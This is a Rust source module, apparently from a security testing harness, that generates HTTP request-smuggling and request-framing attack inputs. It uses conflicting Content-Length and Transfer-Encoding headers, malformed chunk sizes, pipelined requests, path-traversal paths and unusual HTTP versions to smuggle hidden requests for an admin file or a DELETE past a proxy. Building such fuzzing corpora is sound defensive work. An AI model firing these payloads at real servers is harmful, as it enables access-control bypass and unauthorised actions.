//! Where one request ends and the next begins: lengths against chunks, requests hidden in bodies, pipelines, and older versions of HTTP.

use super::{Attack, Class, raw};
use crate::estate::{FORGED, HOST};

/// What hides in a body, or follows a request.
const HIDDEN: [&str; 4] = [
    "GET /admin/secret.txt HTTP/1.1\r\nhost: www.example.com\r\n\r\n",
    "GET /%61dmin/secret.txt HTTP/1.1\r\nhost: www.example.com\r\n\r\n",
    "GET /public/../admin/secret.txt HTTP/1.1\r\nhost: www.example.com\r\n\r\n",
    "DELETE /orders/7 HTTP/1.1\r\nhost: www.example.com\r\n\r\n",
];

/// Ways to write `Transfer-Encoding: chunked` that one side of a proxy may not understand.
const CHUNKED: [&str; 26] = [
    "transfer-encoding: chunked",
    "Transfer-Encoding: Chunked",
    "transfer-encoding : chunked",
    "transfer-encoding:\tchunked",
    "transfer-encoding: \x0bchunked",
    "transfer-encoding: xchunked",
    "transfer-encoding: chunkedx",
    "transfer-encoding: chunked, identity",
    "transfer-encoding: identity, chunked",
    "transfer-encoding: chunked, chunked",
    "transfer-encoding: gzip, chunked",
    "transfer-encoding: identity",
    "transfer-encoding:\r\n chunked",
    "transfer-encoding: chunked\r\ntransfer-encoding: x",
    "transfer-encoding: x\r\ntransfer-encoding: chunked",
    "transfer-encoding: \"chunked\"",
    "transfer-encoding: chunked;x=y",
    "transfer-encoding: chunked\0",
    "transfer-encoding\0: chunked",
    " transfer-encoding: chunked",
    "x: y\ntransfer-encoding: chunked",
    "x: y\rtransfer-encoding: chunked",
    "transfer_encoding: chunked",
    "transfer-encoding: CHUNKED ",
    "te: chunked",
    "transfer-encoding:",
];

/// Lines that begin a chunk in ways that not all read alike; `L` is the length.
const SIZES: [&str; 16] = [
    "L",
    "0L",
    "00000000L",
    "L;x=y",
    "L;\"\r\n\"",
    "L ",
    " L",
    "0xL",
    "+L",
    "-L",
    "L\n",
    "L;\n",
    "L\0",
    "1000000000000000L",
    "L,L",
    "L\r",
];

pub(super) fn add(all: &mut Vec<Attack>) {
    lengths(all);
    chunks(all);
    pipelines(all);
    versions(all);
}

fn lengths(all: &mut Vec<Attack>) {
    for hidden in HIDDEN {
        let length = hidden.len();
        for method in ["POST", "GET"] {
            let line = format!("{method} /public/a.txt HTTP/1.1\r\nhost: {HOST}\r\n");
            let mut add = |fields: String, body: String| {
                raw(all, Class::Framing, format!("{line}{fields}\r\n\r\n{body}"));
            };
            for encoding in CHUNKED {
                let whole = 5 + length;
                add(format!("{encoding}\r\ncontent-length: {whole}"), format!("0\r\n\r\n{hidden}"));
                add(format!("content-length: {whole}\r\n{encoding}"), format!("0\r\n\r\n{hidden}"));
                add(format!("content-length: 4\r\n{encoding}"), format!("{length:x}\r\n{hidden}\r\n0\r\n\r\n"));
            }
            for lengths in [
                format!("content-length: 0\r\ncontent-length: {length}"),
                format!("content-length: {length}\r\ncontent-length: 0"),
                format!("content-length: 0, {length}"),
                format!("content-length: {length}, {length}"),
                format!("content-length: +{length}"),
                format!("content-length: 0x{length:x}"),
                format!("content-length: {length}x"),
                format!("content-length: -{length}"),
                format!("content-length: 000{length}"),
                format!("content-length: {length}\0"),
                format!("content-length : {length}"),
                format!("content-length:\r\n {length}"),
                format!("content_length: {length}"),
                "content-length: 99999999999999999999999999".to_owned(),
                "content-length:".to_owned(),
            ] {
                add(lengths, hidden.to_owned());
            }
        }
    }
}

fn chunks(all: &mut Vec<Attack>) {
    for hidden in HIDDEN {
        let line = format!("POST /public/a.txt HTTP/1.1\r\nhost: {HOST}\r\ntransfer-encoding: chunked\r\n\r\n");
        for size in SIZES {
            let size = size.replace('L', &format!("{:x}", hidden.len()));
            raw(all, Class::Framing, format!("{line}{size}\r\n{hidden}\r\n0\r\n\r\n"));
            raw(all, Class::Framing, format!("{line}1\r\nx\r\n{size}\r\n{hidden}\r\n0\r\n\r\n"));
        }
        for zero in ["0", "00", "0;x", "0\n", "0\0", "", "x", "0 "] {
            raw(all, Class::Framing, format!("{line}{zero}\r\n\r\n{hidden}"));
            raw(all, Class::Framing, format!("{line}{zero}\r\nhost: admin.example.com\r\n\r\n{hidden}"));
            raw(all, Class::Framing, format!("{line}{zero}\n\n{hidden}"));
        }
        // Trailers are not the head of anything.
        for trailer in [
            "host: admin.example.com",
            "x-original-url: /admin/secret.txt",
            "content-length: 5",
            "transfer-encoding: x",
        ] {
            raw(all, Class::Framing, format!("{line}1\r\nx\r\n0\r\n{trailer}\r\n\r\n"));
        }
        raw(all, Class::Framing, format!("{line}{:x}\r\n{hidden}0\r\n\r\n", hidden.len()));
        raw(all, Class::Framing, format!("{line}{:x}\r\n{hidden}\r\n0\r\n\r\n{hidden}", hidden.len()));
    }
}

fn pipelines(all: &mut Vec<Attack>) {
    let first = format!("GET /public/a.txt HTTP/1.1\r\nhost: {HOST}\r\n\r\n");
    for hidden in HIDDEN {
        for between in ["", "\r\n", "\n", "\r\n\r\n", " ", "x", "\0", "\r\n\0"] {
            raw(all, Class::Framing, format!("{first}{between}{hidden}"));
            raw(all, Class::Framing, format!("{first}{first}{between}{hidden}"));
            raw(all, Class::Framing, format!("{first}{between}{hidden}{first}"));
        }
        for count in [5, 20] {
            raw(all, Class::Framing, first.repeat(count) + hidden);
        }
        for field in ["expect: 100-continue", "connection: close", "connection: keep-alive", "keep-alive: timeout=100"]
        {
            let body = format!(
                "POST /public/a.txt HTTP/1.1\r\nhost: {HOST}\r\n{field}\r\ncontent-length: 3\r\n\r\nabc{hidden}"
            );
            raw(all, Class::Framing, body);
        }
        let forged = format!("GET /public/a.txt HTTP/1.1\r\nhost: {HOST}\r\nx-luigi-subject: {FORGED}\r\n\r\n");
        raw(all, Class::Framing, format!("{first}{forged}{hidden}"));
    }
}

fn versions(all: &mut Vec<Attack>) {
    for path in [
        "/admin/secret.txt",
        "/%61dmin/secret.txt",
        "/public/../admin/secret.txt",
        "/public/..;/admin/secret.txt",
        "http://www.example.com/admin/secret.txt",
        "//www.example.com/admin/secret.txt",
    ] {
        for version in [
            "",
            " HTTP/0.9",
            " HTTP/1.0",
            " HTTP/1.2",
            " HTTP/2.0",
            " HTTP/3",
            " HTTP/1.10",
            " HTTP/01.1",
            " http/1.1",
            " HTTP/1.1 HTTP/1.1",
            " HTTP/9.9",
            " HTTP/1",
            " RTSP/1.0",
            " HTTP /1.1",
        ] {
            for host in [
                format!("host: {HOST}\r\n"),
                String::new(),
                "host:\r\n".to_owned(),
                "host: admin.example.com\r\nhost: www.example.com\r\n".to_owned(),
            ] {
                raw(all, Class::OldHttp, format!("GET {path}{version}\r\n{host}\r\n"));
            }
        }
    }
}
